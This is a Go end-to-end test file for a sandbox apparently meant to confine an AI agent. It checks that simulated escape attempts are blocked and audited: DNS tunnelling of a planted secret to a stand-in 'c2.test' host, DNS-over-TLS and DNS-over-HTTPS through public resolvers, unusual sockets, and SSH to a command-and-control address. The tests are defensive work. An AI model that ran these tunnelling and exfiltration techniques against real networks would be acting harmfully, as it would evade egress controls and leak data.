//go:build linux

package e2e_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/claude-bottle/claude-bottle/internal/audit"
)

func TestB02DNSTunnel(t *testing.T) {
	t.Parallel()
	tunnel(t, attacker(t, "dns"))
}

func tunnel(t *testing.T, b *sealed) {
	t.Helper()
	if r := evil[resolution](t, b, "dns", "127.0.0.1:53", "ok.test", "A"); r.RCode != "Success" || len(r.Addresses) != 1 {
		t.Errorf("benign twin: %+v", r)
	}
	for _, server := range []string{"127.0.0.1:53", "8.8.8.8:53", c2Addr.String() + ":53", "[2001:4860:4860::8888]:53"} {
		for _, kind := range []string{"A", "AAAA", "TXT", "NULL", "HTTPS", "MX"} {
			r := evil[resolution](t, b, "dns", server, planted+".c2.test", kind)
			if r.RCode != "NameError" && !(narrow() && server != "127.0.0.1:53" && strings.Contains(r.Error, unreachable)) {
				t.Errorf("%s for %s: %+v", kind, server, r)
			}
		}
	}
	b.audited(t, "the tunnel", "no rule of this bottle names the host "+planted+".c2.test", func(e audit.Event) bool { return e.Kind == audit.KindDNS && e.Method == "TXT" })
	for _, addr := range []string{"8.8.8.8:53", c2Addr.String() + ":53"} {
		if r := evil[resolution](t, b, "dns", "-tcp", addr, planted+".c2.test", "A"); r.RCode != "" || r.Error == "" {
			t.Errorf("DNS over TCP to %s: %+v", addr, r)
		}
	}
	if !narrow() {
		b.audited(t, "DNS over TCP", "was dialled as a bare address", func(e audit.Event) bool { return e.Addr == "8.8.8.8" && e.Port == 53 })
	}
	// DNS over TLS, and over HTTPS by name and address.
	refusedAddress(t, b.http(t, "-via", "direct", "-k", "https://1.1.1.1:853/"+planted), "1.1.1.1")
	for _, host := range []string{"dns.google", "cloudflare-dns.com", "mozilla.cloudflare-dns.com", "dns.quad9.net"} {
		refused(t, b.http(t, "-via", "connect", "-k", "https://"+host+"/dns-query?name="+planted+".c2.test"), "no rule of this bottle names the host "+host)
	}
	refusedAddress(t, b.http(t, "-via", "direct", "-k", "https://8.8.8.8/dns-query?name="+planted+".c2.test"), "8.8.8.8")
	for _, q := range world.dns.asked() {
		if strings.Contains(q, planted) {
			t.Errorf("a query left: %s", q)
		}
	}
}

func TestB03DNSSubtree(t *testing.T) {
	t.Parallel()
	b := attacker(t, "subtree")
	for _, name := range []string{"ok.test", "deep.wild.test", "any.deep.wild.test"} {
		if r := evil[resolution](t, b, "dns", "127.0.0.1:53", name, "A"); r.RCode != "Success" || len(r.Addresses) != 1 || !strings.Contains(r.Addresses[0], "198, 1") {
			t.Errorf("benign twin %s: %+v", name, r)
		}
	}
	for _, name := range []string{"secret.ok.test", planted + ".ok.test", "a.b.c.ok.test", "wild.test", "test"} {
		if r := evil[resolution](t, b, "dns", "127.0.0.1:53", name, "A"); r.RCode != "NameError" {
			t.Errorf("%s: %+v", name, r)
		}
		b.audited(t, name, "no rule of this bottle names the host "+name, func(e audit.Event) bool { return e.Kind == audit.KindDNS })
	}
	// No key for an encrypted ClientHello, nor anything else, comes by DNS.
	for _, kind := range []string{"HTTPS", "TXT", "AAAA"} {
		if r := evil[resolution](t, b, "dns", "127.0.0.1:53", "ok.test", kind); r.RCode != "Success" || len(r.Addresses) > 0 {
			t.Errorf("%s of an allowed name: %+v", kind, r)
		}
	}
}

func TestB04DeniedNamesAreNotResolved(t *testing.T) {
	t.Parallel()
	b := attacker(t, "resolving")
	benign(t, b)
	if !slices.Contains(world.dns.asked(), "ok.test") {
		t.Error("benign twin: the name server was not asked for an allowed name, so its silence means nothing")
	}
	for way := range explicit {
		host := planted + "." + way + ".b04.test"
		b.http(t, "-via", way, "-k", "http://"+host+"/")
		b.audited(t, host, "no rule of this bottle names the host "+host, byHost(host, ""))
	}
	evil[resolution](t, b, "lookup", planted+".lookup.b04.test")
	// An allowed host, a denied path: there is nothing to connect to, so nothing to look up.
	b.http(t, "-via", "connect", "https://any.wild.test:8443/")
	refused(t, b.http(t, "-via", "proxy", "http://any.wild.test/"), "allow TLS only")
	for _, q := range world.dns.asked() {
		if strings.HasSuffix(q, "b04.test") || q == "any.wild.test" {
			t.Errorf("the name server was asked for %s", q)
		}
	}
}

// The sockets that carry neither TCP nor UDP. F02 tries the calls beside them.
func TestB05OddSockets(t *testing.T) {
	t.Parallel()
	b := attacker(t, "kernel")
	tried := 0
	for name, got := range evil[map[string]string](t, b, "syscall") {
		switch {
		case strings.HasPrefix(name, "ok "):
			if got != "done" {
				t.Errorf("benign twin %s: %s", name, got)
			}
		case strings.HasPrefix(name, "socket "):
			tried++
			if !slices.Contains([]string{"EPERM", "EAFNOSUPPORT", "EPROTONOSUPPORT", "EACCES", "ESOCKTNOSUPPORT"}, got) {
				t.Errorf("%s: %s", name, got)
			}
		}
	}
	if tried < 20 {
		t.Errorf("only %d sockets were tried", tried)
	}
}

func TestB06SSH(t *testing.T) {
	t.Parallel()
	b := attacker(t, "ssh")
	benign(t, b)
	for _, addr := range []string{c2Addr.String() + ":22", "140.82.121.4:22", "[" + c2Addr6.String() + "]:22"} {
		got := evil[talk](t, b, "tcp", addr)
		if !strings.HasPrefix(got.Data, "claude-bottle: denied: ") || got.MS >= sniffing {
			t.Errorf("ssh to %s: %+v", addr, got)
		}
	}
	b.audited(t, "ssh to an address", "was dialled as a bare address", func(e audit.Event) bool { return e.Addr == "140.82.121.4" && e.Port == 22 })
	deniedByName(t, b, "github.com", 22, "github.com", "no rule of this bottle names the host github.com")
	deniedByName(t, b, "ok.test", 22, "ok.test", "the rules for ok.test allow port")
	// A server that speaks first would be waited for; the allowed host on its allowed port isn't one.
	if r := evil[resolution](t, b, "lookup", "github.com"); len(r.Addresses) > 0 {
		t.Errorf("github.com resolves: %+v", r)
	}
}
